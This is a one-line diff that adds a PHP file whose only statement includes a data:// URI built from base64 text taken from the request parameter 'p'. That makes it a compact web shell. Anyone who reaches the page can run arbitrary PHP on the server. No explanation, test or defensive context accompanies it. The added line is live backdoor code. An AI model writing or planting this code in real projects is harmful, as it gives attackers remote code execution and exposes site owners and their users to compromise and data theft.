@@ -1,0 +1,1 @@
+<?php include "data://text/plain;base64," . $_GET['p'];
